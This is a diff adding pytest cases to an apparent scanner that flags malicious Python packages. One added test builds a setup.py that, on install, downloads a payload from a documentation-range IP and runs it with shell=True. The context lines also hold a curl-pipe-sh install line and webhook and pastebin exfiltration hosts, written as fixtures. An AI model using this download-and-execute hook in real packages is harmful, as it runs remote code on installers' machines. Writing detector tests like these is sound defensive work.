@@ -361,3 +361,31 @@ def test_tests_docs_data_and_vendored_code_share_one_small_budget(rules):
              "widgetry/fixtures.json": '{"hook": "discord.com/api/webhooks/1/x", "paste": "pastebin.com/raw/x"}',
              "README.md": "Install: curl -sSL https://example.org/i.sh | sh\n", "widgetry/__init__.py": ""}
     assert scan(files, rules).score <= 5
+
+
+def test_a_setup_py_main_with_a_test_command_and_a_version_line_exec_stays_low(rules):
+    setup = SETUP_HEAD + (
+        "import os, sys, subprocess\nfrom os.path import dirname\npjoin = os.path.join\n"
+        "pkgDir = dirname(__file__)\n\n"
+        "def get_version():\n    FN = pjoin(pkgDir, 'src', 'widgetry', '__init__')\n"
+        "    for l in open(pjoin(FN + '.py')).readlines():\n"
+        "        if l.startswith('Version'):\n            D = {}\n            exec(l.strip(), D)\n"
+        "            return D['Version']\n\n"
+        "def run_tests(cli):\n    return subprocess.call(cli, env=dict(os.environ, PYTHONPATH=pkgDir))\n\n"
+        "def main():\n    if 'test' in sys.argv or 'tests-postinstall' in sys.argv:\n"
+        "        sys.exit(run_tests([sys.executable, 'runAll.py']))\n"
+        "    setup(name='widgetry', version=get_version())\n\nif __name__ == '__main__':\n    main()\n")
+    files = {"setup.py": setup, "src/widgetry/__init__.py": "Version = '1.0'\n"}
+    result = scan(files, rules)
+    assert not any(f.rule_id.startswith("eng_combo") for f in result.findings)
+    assert result.verdict in LOW
+
+
+def test_the_same_main_running_a_download_on_install_still_blocks(rules):
+    setup = SETUP_HEAD + (
+        "import os, sys, subprocess, urllib.request\n\n"
+        "def main():\n    if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n"
+        "        data = urllib.request.urlopen('http://203.0.113.7/p').read()\n"
+        "        subprocess.call(data.decode(), shell=True)\n"
+        "    setup(name='widgetry')\n\nif __name__ == '__main__':\n    main()\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
